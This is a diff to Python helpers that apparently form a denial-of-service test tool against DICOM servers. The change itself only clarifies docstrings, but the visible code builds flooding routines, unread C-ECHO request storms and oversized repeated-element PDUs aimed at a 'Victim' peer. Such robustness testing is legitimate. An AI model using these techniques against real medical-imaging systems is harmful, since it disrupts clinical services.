@@ -55,13 +55,13 @@ def _roles(count: int) -> bytes:
 
 
 def _related(count: int) -> bytes:
-    """A user information item with an SOP Class Common Extended Negotiation of so many related classes."""
+    """A user information item with an SOP Class Common Extended Negotiation of this many related classes."""
     names = bytes(2 * count)
     return _item(0x50, _item(0x57, pack(">H", 3) + b"1.2" + pack(">H", 3) + b"1.3" + pack(">H", len(names)) + names))
 
 
 def _flood(data: bytes, *, associated: bool = False, connections: int = 1) -> Callable[[Victim], str]:
-    """Send it again and again on each connection, read what comes, open another one where the peer ends it."""
+    """Send the bytes repeatedly on each connection, read the answers, and reconnect when the peer closes."""
 
     def act(victim: Victim) -> str:
         sent = opened = 0
@@ -101,7 +101,7 @@ def _flood(data: bytes, *, associated: bool = False, connections: int = 1) -> Ca
 
 
 def _again(request: bytes) -> Callable[[Victim], str]:
-    """Request an association with these bytes, again and again; what the first PDU of the answers was."""
+    """Request an association with these bytes repeatedly; returns the first PDU of the answers."""
 
     def act(victim: Victim) -> str:
         answers: dict[str, int] = {}
@@ -121,7 +121,7 @@ def _again(request: bytes) -> Callable[[Victim], str]:
 
 
 def _unread(connections: int, size: int) -> Callable[[Victim], str]:
-    """C-ECHO requests by the thousand, whose answers nobody reads."""
+    """Thousands of C-ECHO requests whose answers are not read."""
 
     def act(victim: Victim) -> str:
         block = memoryview(_mib(_ECHO))
@@ -150,7 +150,7 @@ def _unread(connections: int, size: int) -> Callable[[Victim], str]:
 
 
 def _repeated() -> bytes:
-    """A C-ECHO-RQ of nearly 64 kB, with 8,150 times the same element."""
+    """A C-ECHO-RQ of nearly 64 kB, with the same element 8,150 times."""
     head = command(ECHO_RQ, VERIFICATION, data=False)
     return p_data(1, 3, head + element(0x00000002, b"") * 8150)
 
